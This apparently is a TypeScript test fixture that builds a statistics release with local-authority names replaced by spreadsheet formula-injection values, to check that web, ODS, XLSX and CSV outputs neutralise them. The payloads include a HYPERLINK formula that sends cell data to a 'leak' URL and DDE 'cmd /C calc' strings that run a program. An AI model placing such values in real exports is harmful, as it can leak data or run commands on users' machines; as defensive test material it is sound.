/**
 * The 2025 release with authorities named as formulas, built once per test file that reads it:
 * each name a spreadsheet would run if it arrived as written.
 */
import { join } from 'node:path';
import { buildRelease } from '../../../src/pipeline/build.js';
import { editedData, releaseVariant, tempDir } from '../../support.js';

/** Names for real authorities, each of which a spreadsheet would run if it arrived as written. */
export const HOSTILE: Record<string, string> = {
  Barnet: '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Barnet")',
  Camden: "=cmd|' /C calc'!A0",
  Bexley: '@SUM(1+1)*cmd|" /C calc"!A0',
  Brent: '+1+1',
  Bromley: '-1+1',
  Croydon: '\t=1+1',
  Ealing: ' =1+1',
  Enfield: '＝1+1',
};

/** The names as the loader keeps them: without spaces around them. */
export const NAMES = Object.values(HOSTILE).map((n) => n.trim());

/** Builds the release with those names (web page, workbooks and CSVs) and returns its folder. */
export async function buildHostileRelease(): Promise<string> {
  const register = editedData('la-lookup/england_153_la_lookup.csv', (text) => {
    let edited = text;
    for (const [name, hostile] of Object.entries(HOSTILE)) edited = edited.replace(`,${name},${name},`, `,${name},"${hostile.replace(/"/g, '""')}",`);
    return edited;
  });
  const config = releaseVariant((c) => {
    c.register.authorities.file = register;
    // The 2023-24 visits are matched by name; leave them out so renamed authorities still load.
    c.sources = c.sources.slice(0, 2);
  });
  const out = join(tempDir(), 'release');
  await buildRelease({ configFile: config, outDir: out, formats: ['html', 'ods', 'xlsx', 'csv'], gates: 'document' });
  return out;
}
